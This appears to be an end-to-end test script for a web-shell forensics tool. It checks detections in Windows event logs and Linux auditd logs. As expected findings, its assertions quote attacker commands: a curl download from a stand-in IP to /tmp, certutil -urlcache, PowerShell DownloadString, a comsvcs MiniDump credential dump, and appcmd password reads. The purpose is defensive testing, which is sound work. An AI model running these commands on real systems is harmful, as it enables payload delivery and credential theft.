#!/usr/bin/env bash
# End-to-end: what Windows and Linux record of a web shell at work.
#  1. Generated event logs (tests/logs/make-evtx: Sysmon 1, Security 4688,
#     PowerShell 4104, System 7045/104, Defender 1116-1118 with the fields
#     Windows writes): every annotated hit raises its rule with the command
#     line or the threat in the finding and the incident, every near miss
#     (w3wp starting csc.exe, conhost.exe, WerFault.exe; Defender health
#     and configuration events...) raises nothing; a PowerShell block is
#     joined with the process a web server started whatever order the files
#     are read in; a Defender detection of a file the scan flagged joins
#     its incident; the findings reach the JSON, CSV and text outputs.
#  2. auditd (tests/fixtures/logs/audit): execve by the web server's
#     accounts named from the evidence's passwd, never the host's; without
#     it the run says the accounts could not be named.
#  3. A sweep of a triage tree: the event logs and audit logs found at
#     their places, /etc/passwd registered, a damaged .evtx named in the
#     coverage with the records it lost.
#  4. The real samples in ../shared/evtx-samples (skipped without them):
#     commands through an IIS web shell, the comsvcs minidump, appcmd
#     discovery, Defender's ASP and JSP detections; w3wp's csc.exe and the
#     Defender health log stay quiet.
. "$(dirname "$0")/lib.sh"
run_logs() { local out=$1; shift; "$SHELLSIFT" logs "$@" >"$out" 2>"$out.err"; rc=$?; }
A=tests/fixtures/logs/audit

# --- 1. generated event logs ---
python3 tests/logs/make-evtx "$TMP/evtx" >/dev/null
P="$TMP/evtx/processes"
run_logs "$TMP/p.json" --json "$P"
check "evtx traces: exit 1" test "$rc" -eq 1
check "evtx traces: every hit its rule and severity, every near miss quiet" python3 - "$TMP/p.json" <<'PY'
import json, sys
f = [json.loads(l) for l in open(sys.argv[1])]
got = {(e["file"].rsplit("/", 1)[1], e["line"]): (e["rule"], e["severity"]) for e in f if e["event"] == "finding"}
def of(name):
    return {k[1]: v for k, v in got.items() if k[0] == name}
assert of("Microsoft-Windows-Sysmon%4Operational.evtx") == {
    1: ("webshell-process", "high"), 2: ("webshell-process", "high"), 4: ("webshell-credential-dump", "critical"),
    5: ("webshell-process", "high"), 6: ("webserver-unusual-child", "medium"), 7: ("webshell-process", "high"),
    13: ("credential-dump", "high")}, of("Microsoft-Windows-Sysmon%4Operational.evtx")
assert of("Microsoft-Windows-Windows Defender%4Operational.evtx") == {
    1: ("defender-webshell", "high"), 2: ("defender-webshell", "high"), 3: ("defender-webshell", "high"),
    4: ("defender-webshell", "high"), 5: ("defender-detection", "medium")}, got
assert of("Microsoft-Windows-PowerShell%4Operational.evtx") == {1: ("webshell-powershell-script", "high")}, got
assert got[("Security.evtx", 1)] == ("webshell-process", "high") and got[("Security.evtx", 3)][0] == "eventlog-cleared", got
assert ("Security.evtx", 2) not in got and ("Security.evtx", 4) not in got, got
assert got[("System.evtx", 1)] == ("service-install-suspicious", "high") and ("System.evtx", 2) not in got, got
assert got[("System.evtx", 3)] == ("eventlog-cleared", "medium"), got
PY
check "evtx traces: the finding carries the command, the programs and the account" python3 - "$TMP/p.json" <<'PY'
import json, sys
f = [json.loads(l) for l in open(sys.argv[1]) if '"finding"' in l]
by = {(e["file"].rsplit("/", 1)[1], e["line"]): e for e in f if e["event"] == "finding"}
e = by[("Microsoft-Windows-Sysmon%4Operational.evtx", 1)]
assert e["command"] == '"c:\\windows\\system32\\cmd.exe" /c whoami /all', e
assert e["process"].endswith("cmd.exe") and e["parent"].endswith("w3wp.exe") and e["user"] == "NT AUTHORITY\\SYSTEM", e
assert e["outcome"] == "success" and e["format"] == "evtx", e
c = by[("Security.evtx", 1)]
assert c["command"].startswith("certutil -urlcache") and c["user"] == "IIS APPPOOL\\DefaultAppPool", c
assert c["parent"].endswith("w3wp.exe"), c
s = by[("Microsoft-Windows-PowerShell%4Operational.evtx", 1)]
assert "DownloadString" in s["command"], s
d = by[("Microsoft-Windows-Windows Defender%4Operational.evtx", 3)]
assert d["threat"] == "HackTool:JS/Jsprat" and d["threat_severity"] == "High", d
assert d["action"] == "remove failed: Access is denied." and d["target"] == "C:\\tomcat9\\webapps\\ROOT\\b.jsp", d
q = by[("Microsoft-Windows-Windows Defender%4Operational.evtx", 2)]
assert q["action"] == "quarantine" and q["target"] == "C:\\inetpub\\wwwroot\\aspnet_client\\t3st.aspx", q
PY
check "evtx traces: the incident lists the commands that ran" python3 - "$TMP/p.json" <<'PY'
import json, sys
f = [json.loads(l) for l in open(sys.argv[1])]
inc = [e for e in f if e["event"] == "incident"]
cmds = [c for i in inc for c in i["commands"]]
assert any("whoami /all" in c for c in cmds) and any("comsvcs.dll, MiniDump" in c for c in cmds), cmds
assert any("DownloadString" in c for c in cmds), cmds
assert not any("csc.exe" in c or "conhost" in c for c in cmds), cmds
PY
for t in 1 4; do run_logs "$TMP/p$t.json" --json --threads $t "$P"; done
check "evtx traces: the PowerShell join gives the same findings with 1 and 4 reader threads" python3 - "$TMP/p1.json" "$TMP/p4.json" <<'PY'
import json, sys
def load(p):
    return sorted((e["file"], e["line"], e["rule"], e["severity"]) for e in map(json.loads, open(p)) if e["event"] == "finding")
a, b = load(sys.argv[1]), load(sys.argv[2])
assert a == b and any(r[2] == "webshell-powershell-script" for r in a), (a, b)
PY
cp "$P/Microsoft-Windows-PowerShell%4Operational.evtx" "$TMP/ps-alone.evtx"
run_logs "$TMP/alone.json" --json "$TMP/ps-alone.evtx"
check "evtx traces: PowerShell blocks alone (no process start read) raise nothing" test "$rc" -eq 0
run_logs "$TMP/p.csv" --csv "$P"
check "evtx traces: CSV has the command and threat columns" python3 - "$TMP/p.csv" <<'PY'
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
assert rows and {"command", "process", "parent", "user", "threat", "threat_severity", "action", "target"} <= set(rows[0]), rows[0].keys()
assert any(r["rule"] == "webshell-credential-dump" and "MiniDump" in r["command"] for r in rows), rows
assert any(r["threat"] == "Backdoor:ASP/Ace.T" and r["action"] == "quarantine" for r in rows), rows
PY
run_logs "$TMP/p.txt" --no-color "$P"
check "evtx traces: the text output says what ran, by whom, and the threat" \
  grep -q 'ran: "c:\\\\windows\\\\system32\\\\cmd.exe" /c whoami /all' "$TMP/p.txt"
check "evtx traces: the text output names the threat and its action" grep -q "threat Backdoor:ASP/Ace.T (Severe): quarantine" "$TMP/p.txt"

# A Defender detection of a file the scan flagged joins the incident.
printf '{"event":"finding","path":"%s/C/inetpub/wwwroot/aspnet_client/t3st.aspx","rules":["x"]}\n' "$TMP/copy" >"$TMP/scan.json"
run_logs "$TMP/link.json" --json --scan-results "$TMP/scan.json" "$P/Microsoft-Windows-Windows Defender%4Operational.evtx"
check "defender: a detection of a scanned shell links the shell into its incident" python3 - "$TMP/link.json" "$TMP/copy" <<'PY'
import json, sys
inc = [e for e in map(json.loads, open(sys.argv[1])) if e["event"] == "incident"]
want = sys.argv[2] + "/C/inetpub/wwwroot/aspnet_client/t3st.aspx"
assert any(want in i["shells"] for i in inc), inc
PY

# --- 2. auditd ---
run_logs "$TMP/a.json" --json --passwd $A/passwd $A/audit.log
check "auditd: exit 1, complete" test "$rc" -eq 1 -a "$(jsonl "$TMP/a.json" count warning)" -eq 0
check "auditd: the web server's accounts' commands found, near misses quiet" python3 - "$TMP/a.json" <<'PY'
import json, sys
f = [json.loads(l) for l in open(sys.argv[1])]
got = {e["line"]: (e["rule"], e["user"], e["command"]) for e in f if e["event"] == "finding"}
assert sorted(got) == [1, 7, 13, 43, 49], got
assert got[1] == ("webshell-process", "www-data", "sh -c id; uname -a"), got[1]
assert got[13][2] == "curl -s http://203.0.113.5/t3st -o /tmp/t3st" and got[43][1] == "apache", got
assert got[49] == ("webshell-process", "tomcat", "/bin/bash -c whoami"), got[49]
e = [x for x in f if x["event"] == "finding" and x["line"] == 7][0]
assert e["process"] == "/usr/bin/id" and e["parent"] == "/usr/bin/dash" and e["format"] == "auditd", e
src = [x for x in f if x["event"] == "summary"][0]["sources"]
assert [s["format"] for s in src] == ["auditd"] and src[0]["lines"] == 10, src
PY
run_logs "$TMP/a2.json" --json $A/audit.log
check "auditd without --passwd: only the log's own names, and the gap is said (exit 1, incomplete)" python3 - "$TMP/a2.json" <<'PY'
import json, sys
f = [json.loads(l) for l in open(sys.argv[1])]
assert sorted(e["line"] for e in f if e["event"] == "finding") == [43], f
w = [e for e in f if e["event"] == "warning"]
assert any("no name" in e["message"] and e["incomplete"] for e in w), w
PY
check "auditd: names never come from this machine (uid 0 unnamed without --passwd)" python3 - "$TMP/a2.json" <<'PY'
import json, sys
f = [json.loads(l) for l in open(sys.argv[1])]
w = [e["message"] for e in f if e["event"] == "warning"]
assert any(m.startswith("8 program executions") for m in w), w  # root's uid 0 is among the unnamed
PY
"$SHELLSIFT" logs --dump $A/audit.log >"$TMP/a.dump" 2>"$TMP/a.dump.err"
check "auditd: --dump gives one record per event with every field, arguments decoded" python3 - "$TMP/a.dump" <<'PY'
import json, sys
recs = [json.loads(l) for l in open(sys.argv[1])]
assert len(recs) == 10 and all(r["format"] == "auditd" for r in recs), len(recs)
f = recs[0]["fields"]
assert f["type"] == ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"], f["type"]
assert f["a2"][-1] == "id; uname -a" and f["exe"] == "/usr/bin/dash" and f["uid"] == "33", f
PY
cat >"$TMP/wget.yml" <<'YML'
title: wget run (test rule)
id: 00000000-0000-4000-8000-000000000001
status: test
logsource: {product: linux, service: auditd}
detection:
  sel: {type: EXECVE, a0: wget}
  condition: sel
level: low
YML
run_logs "$TMP/as.json" --json --sigma "$TMP/wget.yml" --passwd $A/passwd $A/audit.log
check "auditd: Sigma rules for linux/auditd run on the events (the reason joins the built-in one)" python3 - "$TMP/as.json" <<'PY'
import json, sys
f = [json.loads(l) for l in open(sys.argv[1])]
hit = [e for e in f if e["event"] == "finding" and e["line"] == 43]
assert hit and "00000000-0000-4000-8000-000000000001" in hit[0]["sigma_ids"], hit
assert hit[0]["rule"] == "webshell-process" and len(hit[0]["reasons"]) == 2, hit
PY
printf 'type=SYSCALL msg=audit(1.0:1): garbage\nnot an audit line at all\n' >"$TMP/bad.log"
run_logs "$TMP/bad.json" --json "$TMP/bad.log"
check "auditd: a line that is no audit record is reported (exit 2)" test "$rc" -eq 2
check "auditd: the warning names the lines not read" jsonl "$TMP/bad.json" warning log-format bad.log

# --- 3. a sweep finds them at their places ---
R="$TMP/host/HOST1/C"
mkdir -p "$R/Windows/System32/winevt/Logs" "$R/inetpub/wwwroot"
cp "$P"/*.evtx "$R/Windows/System32/winevt/Logs/"
head -c 12000 "$P/Microsoft-Windows-Sysmon%4Operational.evtx" >"$R/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx"
L="$TMP/lin"
mkdir -p "$L/var/log/audit" "$L/etc" "$L/var/www/html"
cp $A/audit.log "$L/var/log/audit/audit.log.1"
cp $A/passwd "$L/etc/passwd"
"$SHELLSIFT" logs --json "$TMP/host" >"$TMP/kape.json" 2>/dev/null
check "KAPE layout (HOST/C/...): Security, System, Sysmon, PowerShell and Defender logs found" python3 - "$TMP/kape.json" <<'PY'
import json, sys
f = [json.loads(l) for l in open(sys.argv[1])]
src = {s["format"] for s in [e for e in f if e["event"] == "summary"][0]["sources"]}
for n in ("Security", "System", "Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Sysmon/Operational",
          "Microsoft-Windows-PowerShell/Operational"):
    assert "evtx:" + n in src, (n, src)
PY
"$SHELLSIFT" sweep "$TMP/host" --case "$TMP/case.db" --json -q >"$TMP/sw.json" 2>/dev/null
check "sweep: the cut .evtx is named in the coverage with the records it lost" python3 - "$TMP/sw.json" <<'PY'
import json, sys
f = [json.loads(l) for l in open(sys.argv[1])]
cov = [e for e in f if "coverage" in json.dumps(e) and "event log partly read" in json.dumps(e)]
assert cov and "could not be read" in json.dumps(cov), [json.dumps(e)[:300] for e in f if "partly" in json.dumps(e)]
PY
"$SHELLSIFT" report "$TMP/case.db" >"$TMP/case.txt" 2>/dev/null
check "case file: the incident's commands in the stored report" grep -qF 'ran: "c:\\windows\\system32\\cmd.exe" /c whoami /all' "$TMP/case.txt"
check "case file: log findings keep the command and the detection" python3 - "$TMP/case.db" <<'PY'
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
assert db.execute("SELECT count(*) FROM log_findings WHERE command LIKE '%whoami /all' AND parent LIKE '%w3wp.exe'").fetchone()[0] == 1
assert db.execute("SELECT count(*) FROM log_findings WHERE threat='Backdoor:ASP/Ace.T' AND action='quarantine'").fetchone()[0] == 1
assert db.execute("SELECT count(*) FROM incidents WHERE commands LIKE '%whoami%'").fetchone()[0] >= 1
PY
"$SHELLSIFT" sweep "$L" --case "$TMP/casel.db" --json -q >"$TMP/swl.json" 2>/dev/null
check "sweep: audit logs read with the evidence's /etc/passwd (www-data's commands found)" python3 - "$TMP/swl.json" <<'PY'
import json, sys
f = [json.loads(l) for l in open(sys.argv[1])]
hits = [e for e in f if e.get("rule", {}).get("name") == "webshell-process"]
assert len(hits) == 5 and any(e.get("user", {}).get("name") == "www-data" for e in hits), [json.dumps(e)[:200] for e in f][:20]
PY

# --- 4. the real samples ---
S=../shared/evtx-samples
if [ -d "$S" ]; then
  run_logs "$TMP/s1.json" --json "$S/LM_typical_IIS_webshell_sysmon_1_10_traces.evtx"
  check "samples: commands through an IIS web shell (w3wp -> cmd /c net user -> net -> net1)" python3 - "$TMP/s1.json" <<'PY'
import json, sys
f = [e for e in map(json.loads, open(sys.argv[1])) if e["event"] == "finding"]
assert [(e["rule"], e["severity"]) for e in f] == [("webshell-process", "high")] * 3, f
assert f[0]["command"].endswith("/c net user") and f[0]["parent"].endswith("w3wp.exe"), f[0]
assert f[0]["user"] == "IIS APPPOOL\\DefaultAppPool" and f[2]["process"].endswith("net1.exe"), f
PY
  run_logs "$TMP/s2.json" --json "$S/sysmon_10_1_memdump_comsvcs_minidump.evtx"
  check "samples: the comsvcs MiniDump is credential dumping" python3 - "$TMP/s2.json" <<'PY'
import json, sys
f = [e for e in map(json.loads, open(sys.argv[1])) if e["event"] == "finding"]
assert [(e["rule"], e["severity"]) for e in f] == [("credential-dump", "high")] and "MiniDump" in f[0]["command"], f
PY
  run_logs "$TMP/s3.json" --json "$S/discovery_sysmon_1_iis_pwd_and_config_discovery_appcmd.evtx"
  check "samples: appcmd discovery by the pool account; password reads are critical" python3 - "$TMP/s3.json" <<'PY'
import json, sys
f = [e for e in map(json.loads, open(sys.argv[1])) if e["event"] == "finding"]
crit = [e for e in f if e["rule"] == "webshell-credential-dump"]
assert crit and all("password" in e["command"].lower() and e["severity"] == "critical" for e in crit), crit
assert any(e["rule"] == "webshell-process" and "list vdir /text:physicalpath" in e["command"] for e in f), f
assert all(e["user"] == "IIS APPPOOL\\DefaultAppPool" for e in f), f
PY
  run_logs "$TMP/s4.json" --json "$S/WinDefender_Events_1117_1116_AtomicRedTeam.evtx"
  check "samples: Defender's ASP and JSP detections are high, with threat, action and path" python3 - "$TMP/s4.json" <<'PY'
import json, sys
f = [e for e in map(json.loads, open(sys.argv[1])) if e["event"] == "finding"]
assert len(f) == 11, len(f)  # every 1116 and 1117
asp = [e for e in f if e["threat"] == "Backdoor:ASP/Ace.T"]
jsp = [e for e in f if e["threat"] == "HackTool:JS/Jsprat"]
assert asp and jsp and all(e["rule"] == "defender-webshell" and e["severity"] == "high" for e in asp + jsp), f
assert any(e["action"] == "quarantine" for e in asp) and asp[0]["target"].endswith("\\shells\\cmd.aspx"), asp
assert jsp[0]["target"].endswith("\\shells\\b.jsp"), jsp
assert all(e["rule"] == "defender-detection" and e["severity"] == "medium" for e in f if e not in asp + jsp), f
PY
  run_logs "$TMP/s5.json" --json "$S/ID1151-Defender health status.evtx"
  check "samples: Defender's 455 health records raise nothing (exit 0)" test "$rc" -eq 0
  check "samples: ... and were all read" python3 - "$TMP/s5.json" <<'PY'
import json, sys
s = [e for e in map(json.loads, open(sys.argv[1])) if e["event"] == "summary"][0]
assert s["lines"] == 455 and s["findings"] == 0, s
PY
  run_logs "$TMP/s6.json" --json "$S/discovery_sysmon_1_iis_pwd_and_config_discovery_appcmd.evtx" \
    "$S/LM_typical_IIS_webshell_sysmon_1_10_traces.evtx"
  check "samples: no csc.exe, conhost.exe or WerFault.exe child of w3wp is flagged" python3 - "$TMP/s6.json" <<'PY'
import json, sys
f = [e for e in map(json.loads, open(sys.argv[1])) if e["event"] == "finding"]
assert not any(e["process"].lower().endswith(("csc.exe", "conhost.exe", "werfault.exe", "cvtres.exe")) for e in f), f
PY
else
  echo "SKIP: $S absent (the real sample event logs are in ../shared): real-sample process traces and Defender checks not run"
fi
finish
